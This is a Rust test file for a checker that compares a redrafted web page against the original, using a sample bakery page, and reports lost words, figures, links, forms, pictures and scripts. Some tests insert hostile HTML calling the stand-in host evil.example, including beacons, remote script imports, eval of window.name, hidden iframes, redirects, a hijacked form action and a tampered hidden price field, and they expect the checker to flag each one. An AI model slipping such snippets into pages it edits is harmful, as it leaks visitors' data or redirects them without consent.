//! What is missing in a draft: of a small page in many versions, and of every page that the house repairs.

use jury_core::loss::LossKind;
use jury_house::{Beside, GivenPage, Request, losses, repair, sit};

const PAGE: &str = r##"<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Oven bakery</title>
<style>body{font:18px/1.5 sans-serif;color:#111;background:#fff}.hero{background:#fff url(oven.jpg)}</style></head><body>
<header class="hero"><nav><a href="#bread">Bread</a> <a href="/about">About us</a></nav><h1>Bread from our own oven</h1></header>
<main><h2 id="bread">What we bake</h2>
<p>We bake every night in Leipzig. The shop opens at seven and closes when the shelves are empty.</p>
<ul class="prices"><li><b>Sourdough</b> <span>€6.50</span></li><li><b>Rye loaf</b> <span>€5.20</span></li></ul>
<section class="testimonials"><h2>What people say</h2><p>The best loaf in town, says Anna from the market.</p></section>
<p>Call <a href="tel:+49341123456">0341 123456</a> or write to <a href="mailto:hi@oven.example">hi@oven.example</a>.</p>
<p>Every week we send a letter with what is new, and with one recipe that nobody else has yet.</p>
<img src="loaf.jpg" alt="A loaf" width="300" height="200">
<form action="/order" method="post"><label for="mail">Mail</label><input id="mail" name="mail" type="email">
<input type="hidden" name="plan" value="basic"><button>Order bread</button></form>
<details><summary>Opening hours</summary><p>From seven until noon on weekdays.</p></details></main>
<script>function count(items) { return items.length; } document.title = count([1]);</script>
<script src="https://stats.example/s.js"></script></body></html>"##;

fn lost(draft: &str, brief: Option<&str>) -> Vec<LossKind> {
    let given = GivenPage { page: PAGE, brief };
    let losses = losses(given, draft, &Beside::nothing()).expect("both can be laid out");
    losses.into_iter().map(|loss| loss.kind).collect()
}

fn with(was: &str, now: &str) -> String {
    assert!(PAGE.contains(was), "{was}");
    PAGE.replace(was, now)
}

#[test]
fn a_better_page_with_the_same_content_has_lost_nothing() {
    for draft in [
        PAGE.replace('\n', "\n\n  "),
        with("<h1>Bread from our own oven</h1>", "<h1>Bread<br>from our <em>own</em> oven</h1>"),
        with(
            "<p>We bake every night in Leipzig. The",
            "<p>We bake every night in <strong>Leipzig</strong>.</p><p>The",
        ),
        with("€6.50", "6,50&nbsp;€"),
        with(
            "<h1>Bread from our own oven</h1>",
            "<h1>BREAD FROM OUR OWN OVEN</h1><p>Baked by hand, 365 days a year.</p>",
        ),
        with("alt=\"A loaf\"", "alt=\"A round loaf of sourdough on a board\" loading=\"lazy\""),
        with("<button>Order bread</button>", "<button type=\"submit\">Order</button>"),
        with("<b>Rye loaf</b> <span>€5.20</span>", "<span>€5.20</span> <b>Rye loaf</b>"),
        with("color:#111", "color:#222;max-width:60ch"),
        with("says Anna from the market", "says Anna from the big market"),
        with("<details>", "<details open>"),
        with("<a href=\"/about\">About us</a>", "<a href=\"/about/\">About</a>"),
        with("href=\"#bread\">Bread", "href=\"#loaves\">Bread").replace("id=\"bread\"", "id=\"loaves\""),
        with("<h2>What people say</h2>", "<h2>What people tell us</h2>"),
    ] {
        assert_eq!(lost(&draft, None), [], "{draft}");
    }
    let moved = with("<img src=\"loaf.jpg\" alt=\"A loaf\" width=\"300\" height=\"200\">\n", "")
        .replace("<main>", "<main><img src=\"loaf.jpg\" alt=\"A loaf\" width=\"600\" height=\"400\">");
    assert_eq!(lost(&moved, None), []);
}

#[test]
fn what_is_gone_hidden_or_another_is_lost() {
    use LossKind::{Addresses, Figures, Forms, Headings, Links, Names, Page, Pictures, Scripts, Words};
    let hidden = |style: &str| with("<p>Every week", &format!("<p style=\"{style}\">Every week"));
    for (draft, kinds) in [
        (with("We bake every night in Leipzig. ", ""), vec![Words, Names]),
        (with("<li><b>Rye loaf</b> <span>€5.20</span></li>", ""), vec![Words, Figures]),
        (with("<h2>What people say</h2>", ""), vec![Headings]),
        (hidden("display:none"), vec![Words]),
        (hidden("visibility:hidden"), vec![Words]),
        (hidden("opacity:0"), vec![Words]),
        (hidden("position:absolute;left:-9999px"), vec![Words]),
        (hidden("position:absolute;top:-900px"), vec![Words]),
        (hidden("text-indent:-9999px;overflow:hidden"), vec![Words]),
        (hidden("font-size:1px"), vec![Words]),
        (hidden("color:#fff"), vec![Words]),
        (hidden("height:0;overflow:hidden"), vec![Words]),
        (hidden("color:transparent"), vec![Words]),
        (hidden("transform:scale(0)"), vec![Words]),
        (hidden("clip-path:inset(50%)"), vec![Words]),
        (with("<p>Every week", "<p hidden>Every week"), vec![Words]),
        (with("€6.50", "€7.50"), vec![Figures]),
        (with("€6.50", "$6.50"), vec![Figures]),
        (with("€6.50", "€X").replace("€5.20", "€6.50").replace("€X", "€5.20"), vec![Figures]),
        (with("says Anna from", "says Hanna from"), vec![Names]),
        (with("hi@oven.example", "hi@other.example"), vec![Addresses, Links]),
        (
            with("0341 123456", "0341 654321").replace("tel:+49341123456", "tel:+49341654321"),
            vec![Addresses, Links],
        ),
        (with("href=\"/about\"", "href=\"/elsewhere\""), vec![Links]),
        (with("<a href=\"/about\">About us</a>", "About us"), vec![Links]),
        (with("action=\"/order\"", "action=\"https://evil.example/order\""), vec![Forms]),
        (with("name=\"mail\"", "name=\"post\""), vec![Forms]),
        (with("<input id=\"mail\"", "<input disabled id=\"mail\""), vec![Forms]),
        (with("<input id=\"mail\"", "<input hidden id=\"mail\""), vec![Forms]),
        (with("value=\"basic\"", "value=\"gold\""), vec![Forms]),
        (with("src=\"loaf.jpg\"", "src=\"cake.jpg\""), vec![Pictures]),
        (with("<img src=\"loaf.jpg\"", "<img hidden src=\"loaf.jpg\""), vec![Pictures]),
        (with(" url(oven.jpg)", ""), vec![Pictures]),
        (with("<script src=\"https://stats.example/s.js\"></script>", ""), vec![Scripts]),
        (
            with("function count(items) { return items.length; } document.title = count([1]);", ""),
            vec![Scripts],
        ),
        (with("<p>From seven until noon on weekdays.</p>", ""), vec![Words]),
    ] {
        assert_eq!(lost(&draft, None), kinds, "{draft}");
    }
    let phone = with("</style>", "@media (max-width:600px){.prices{display:none}}</style>");
    assert_eq!(lost(&phone, None), [Words, Figures]);
    let other = "<!doctype html><html lang=en><title>x</title><h1>The larder</h1><p>Cheese and wine by the river.</p>";
    assert!(lost(other, None).contains(&Page));
}

#[test]
fn a_drawing_is_its_shapes_and_its_name() {
    let page = |inside: &str, name: &str| {
        let svg = format!(
            "<svg width='200' height='100' role='img' aria-label='{name}'>{inside}<text x='9' y='9'>2019</text></svg>"
        );
        with("<form", &format!("{svg}<form"))
    };
    let given = page("<path d='M0 90L100 50'/>", "Sales in a year");
    let kinds = |draft: &str| -> Vec<LossKind> {
        let given = GivenPage { page: &given, brief: None };
        losses(given, draft, &Beside::nothing())
            .expect("both can be laid out")
            .into_iter()
            .map(|loss| loss.kind)
            .collect()
    };
    assert_eq!(kinds(&page("<path d='M0 90L100 50' stroke='red'/><g/>", "Sales in a year by month")), []);
    assert_eq!(kinds(&page("<path d='M0 50L100 90'/>", "Sales in a year")), [LossKind::Pictures]);
    assert_eq!(kinds(&page("<path d='M0 90L100 50'/>", "Rain in a year")), [LossKind::Pictures]);
}

#[test]
fn a_brief_allows_what_it_names() {
    let without = with(
        "<section class=\"testimonials\"><h2>What people say</h2><p>The best loaf in town, says Anna from the market.</p></section>",
        "",
    );
    assert_eq!(lost(&without, Some("Remove the testimonials.")), []);
    assert_ne!(lost(&without, Some("Make it prettier.")), []);
    assert_ne!(lost(&without, Some("Do not remove the testimonials.")), []);
    assert_ne!(lost(&without, Some("Remove the prices.")), []);
}

fn pages() -> Vec<(String, String)> {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut found = Vec::new();
    for folder in ["tests/pages", "../../examples"] {
        let entries = std::fs::read_dir(root.join(folder)).expect("a folder");
        for path in entries.map(|entry| entry.expect("an entry").path()) {
            if path.extension().is_some_and(|extension| extension == "html") {
                found.push((path.display().to_string(), std::fs::read_to_string(&path).expect("a page")));
            }
        }
    }
    found.sort();
    found
}

/// The drafts of a sitting of the house.
fn drafts(page: &str) -> Vec<String> {
    let request = Request { page: page.to_owned(), ..Request::default() };
    let mut transcript = Vec::new();
    sit(&request, &mut transcript).expect("a transcript");
    let text = String::from_utf8(transcript).expect("text");
    let bodies = text.split("<![CDATA[").skip(1).filter_map(|rest| rest.split("]]></ARTIFACT>").next());
    bodies.map(|body| body.replace("]]]]><![CDATA[>", "]]>")).collect()
}

#[test]
fn repairs_of_the_house_lose_nothing() {
    for (name, page) in pages() {
        let repaired = repair(&page, None, &Beside::nothing()).expect("it can be repaired").html;
        for draft in drafts(&page).iter().chain([&repaired]) {
            let found = losses(GivenPage { page: &page, brief: None }, draft, &Beside::nothing())
                .expect("both are pages");
            assert_eq!(found, [], "{name}");
        }
    }
}

#[test]
fn a_number_in_words_is_a_number() {
    for draft in [
        with("opens at seven", "opens at 7"),
        with("opens at seven", "opens at <b>seven</b>"),
        with("€6.50", "€<b>6.50</b>"),
        with("<span>€6.50</span>", "<span>6.50</span> <span>€</span>"),
    ] {
        assert_eq!(lost(&draft, None), [], "{draft}");
    }
    for draft in
        [with("seven", "eight"), with("opens at seven", "opens at eight"), with("opens at seven", "opens")]
    {
        assert_eq!(lost(&draft, None), [LossKind::Figures], "{draft}");
    }
}

#[test]
fn a_safe_connection_stays_safe_and_a_link_shows_where_it_leads() {
    let secure = PAGE.replace("href=\"/about\"", "href=\"https://oven.example/about\"");
    let of = |given: &str, draft: &str| {
        let found = losses(GivenPage { page: given, brief: None }, draft, &Beside::nothing()).expect("pages");
        found.into_iter().map(|loss| loss.kind).collect::<Vec<_>>()
    };
    let open = secure.replace("https://oven.example/about", "http://oven.example/about");
    assert_eq!(of(&secure, &open), [LossKind::Links]);
    assert_eq!(of(&open, &secure), []);
    assert_eq!(lost(&with(">hi@oven.example<", ">ho@oven.example<"), None), [LossKind::Addresses]);
    assert_eq!(lost(&with(">hi@oven.example<", ">us<"), None), []);
    assert_eq!(lost(&with("s.js", "t.js"), None), [LossKind::Scripts]);
    assert_eq!(lost(&with("document.title = count([1]);", "fetch(\"/x\");"), None), [LossKind::Scripts]);
    assert_eq!(lost(&with("return items.length;", "return  items.length /* how many */;"), None), []);
}

#[test]
fn what_no_place_of_the_window_shows_is_not_in_sight() {
    let p = "<p>We bake every night in Leipzig. The";
    let styled = |style: &str| with(p, &p.replace("<p>", &format!("<p style=\"{style}\">")));
    assert!(lost(&styled("position:fixed;left:200vw"), None).contains(&LossKind::Words));
    assert!(lost(&styled("position:fixed;top:2000px"), None).contains(&LossKind::Words));
    assert_eq!(lost(&styled("position:fixed;left:0;top:0;max-height:5em;overflow:auto"), None), []);
    let away = styled("position:absolute;left:150vw;width:500px");
    assert!(lost(&away.replace("body{", "body{overflow-x:hidden;"), None).contains(&LossKind::Words));
    let scripted = with(p, "<noscript><p>We bake every night in Leipzig. The")
        .replace("are empty.</p>", "are empty.</p></noscript>");
    assert!(lost(&scripted, None).contains(&LossKind::Words));
}

#[test]
fn what_a_draft_reaches_out_of_sight_and_nobody_asked_for_is_told() {
    for part in [
        "<script>navigator.sendBeacon('https://evil.example/v')</script>",
        "<script type=\"module\">import 'https://evil.example/t.js'</script>",
        "<script>eval(window.name)</script>",
        "<svg width=\"9\" height=\"9\"><script>fetch('//evil.example/')</script></svg>",
        "<img src=\"https://evil.example/p.gif\" alt=\"\" width=\"1\" height=\"1\">",
        "<iframe src=\"https://evil.example/\" title=\"Weather\"></iframe>",
        "<iframe srcdoc=\"&lt;script src=https://evil.example/t.js&gt;&lt;/script&gt;\" title=\"Weather\"></iframe>",
        "<object data=\"https://evil.example/x\"></object>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<p onmouseover=\"fetch('https://evil.example/')\">Every bowl is signed.</p>",
        "<a ping=\"https://evil.example/p\" href=\"/about\">About us</a>",
        "<form action=\"https://evil.example/\"><label>Mail <input name=\"m\"></label> <button>Send</button></form>",
        "<p style=\"display:none\"><a href=\"https://casino.example/\">bonus</a></p>",
    ] {
        let draft = with("</main>", &format!("{part}</main>"));
        assert_eq!(lost(&draft, None), [LossKind::Reach], "{part}");
    }
    let field = "<input type=\"hidden\" name=\"price\" value=\"900\"><button>Order bread</button>";
    assert_eq!(lost(&with("<button>Order bread</button>", field), None), [LossKind::Reach]);
    for part in [
        "<script>document.title = 'Bread'; // https://comment.example/</script>",
        "<script src=\"https://stats.example/more.js\"></script>",
        "<script>var ns = 'http://www.w3.org/2000/svg';</script>",
        "<a href=\"https://maps.example/leipzig\">Where we are</a>",
        "<img src=\"https://pictures.example/loaf.jpg\" alt=\"A loaf\" width=\"300\" height=\"200\">",
        "<form action=\"/search\"><label>Search <input name=\"q\" type=\"search\"></label> <button>Search</button></form>",
        "<a class=\"skip\" style=\"position:absolute;left:-999px\" href=\"#bread\">Skip to the bread</a>",
    ] {
        let draft = with("</main>", &format!("{part}</main>"));
        assert_eq!(lost(&draft, None), [], "{part}");
    }
    let map = "<iframe src=\"https://www.openstreetmap.org/export\" title=\"Map\"></iframe></main>";
    assert_eq!(lost(&with("</main>", map), Some("Add a map of where we are.")), []);
    let script = "<script src=\"https://plausible.io/js/script.js\"></script></main>";
    assert_eq!(lost(&with("</main>", script), Some("We want Plausible on the page.")), []);
}

#[test]
fn a_form_that_sends_something_else_is_another_one() {
    let page = PAGE.replace("type=\"email\">", "type=\"email\" required>").replace(
        "<button>Order bread</button>",
        "<label><input type=\"checkbox\" name=\"news\" value=\"1\"> News</label>\
         <label for=\"size\">Size</label><select id=\"size\" name=\"size\"><option>Small</option><option>Large</option></select>\
         <button>Order bread</button>",
    );
    let lost = |was: &str, now: &str| -> Vec<LossKind> {
        assert!(page.contains(was), "{was}");
        let draft = page.replace(was, now);
        let given = GivenPage { page: &page, brief: None };
        let losses = losses(given, &draft, &Beside::nothing()).expect("both can be laid out");
        losses.into_iter().map(|loss| loss.kind).collect()
    };
    for (was, now) in [
        (" required>", ">"),
        ("name=\"news\" value=\"1\"", "name=\"news\" value=\"1\" checked"),
        ("<option>Large", "<option selected>Large"),
        ("<button>Order", "<button type=\"button\">Order"),
        ("<button>Order", "<button formmethod=\"get\">Order"),
        ("method=\"post\"", "method=\"post\" enctype=\"text/plain\""),
        ("method=\"post\"", "method=\"post\" inert"),
        ("type=\"email\" required", "type=\"email\" readonly required"),
    ] {
        assert_eq!(lost(was, now), [LossKind::Forms], "{now}");
    }
    for (was, now) in [
        ("<option>Large</option>", "<option>Large</option><option>Huge</option>"),
        (
            "type=\"email\" required",
            "type=\"email\" autocomplete=\"email\" required aria-describedby=\"hint\"",
        ),
        ("<option>Small", "<option selected>Small"),
        ("<button>Order", "<button type=\"submit\">Order"),
        ("value=\"1\"> News", "value=\"1\" required> News"),
    ] {
        assert_eq!(lost(was, now), [], "{now}");
    }
}

#[test]
fn what_a_shadow_takes_the_place_of_is_not_in_sight() {
    let draft = with("<main>", "<main><template shadowrootmode=\"open\"><h1>Closed</h1></template>");
    assert!(lost(&draft, None).contains(&LossKind::Page));
    let draft = with("</main>", "</main><div><template shadowrootmode=\"open\"><p>New</p></template></div>");
    assert_eq!(lost(&draft, None), []);
}

#[test]
fn a_script_that_is_not_carried_out_any_more_is_gone() {
    for (was, now) in [
        ("<script>function", "<script type=\"text/plain\">function"),
        ("<script>function", "<noscript><script>function"),
    ] {
        assert!(lost(&with(was, now), None).contains(&LossKind::Scripts), "{now}");
    }
}

#[test]
fn a_figure_of_a_table_belongs_to_its_row_and_its_column() {
    let table = |rows: &str| PAGE.replace("</main>", &format!("<table>{rows}</table></main>"));
    let page = table(
        "<tr><th>Loaf</th><th>Shop</th><th>Market</th></tr>\
         <tr><th>Rye</th><td>5 euros</td><td>6 euros</td></tr><tr><th>Spelt</th><td>7 euros</td><td>8 euros</td></tr>",
    );
    let lost = |rows: &str| -> Vec<LossKind> {
        let given = GivenPage { page: &page, brief: None };
        let losses = losses(given, &table(rows), &Beside::nothing()).expect("both can be laid out");
        losses.into_iter().map(|loss| loss.kind).collect()
    };
    for rows in [
        "<tr><th>Loaf</th><th>Market</th><th>Shop</th></tr>\
         <tr><th>Rye</th><td>5 euros</td><td>6 euros</td></tr><tr><th>Spelt</th><td>7 euros</td><td>8 euros</td></tr>",
        "<tr><th>Loaf</th><th>Shop</th><th>Market</th></tr>\
         <tr><th>Spelt</th><td>5 euros</td><td>6 euros</td></tr><tr><th>Rye</th><td>7 euros</td><td>8 euros</td></tr>",
        "<tr><th>Loaf</th><th>Shop</th><th>Market</th></tr>\
         <tr><th>Rye</th><td>6 euros</td><td>5 euros</td></tr><tr><th>Spelt</th><td>7 euros</td><td>8 euros</td></tr>",
    ] {
        assert_eq!(lost(rows), [LossKind::Figures], "{rows}");
    }
    for rows in [
        // Columns, rows, and both.
        "<tr><th>Loaf</th><th>Market</th><th>Shop</th></tr>\
         <tr><th>Rye</th><td>6 euros</td><td>5 euros</td></tr><tr><th>Spelt</th><td>8 euros</td><td>7 euros</td></tr>",
        "<tr><th>Loaf</th><th>Shop</th><th>Market</th></tr>\
         <tr><th>Spelt</th><td>7 euros</td><td>8 euros</td></tr><tr><th>Rye</th><td>5 euros</td><td>6 euros</td></tr>",
        "<thead><tr><th>Loaf</th><th>Rye</th><th>Spelt</th></tr></thead>\
         <tbody><tr><th>Shop</th><td><b>5</b> euros</td><td>7 euros</td></tr><tr><th>Market</th><td>6 euros</td><td>8 euros</td></tr></tbody>",
    ] {
        assert_eq!(lost(rows), [], "{rows}");
    }
}
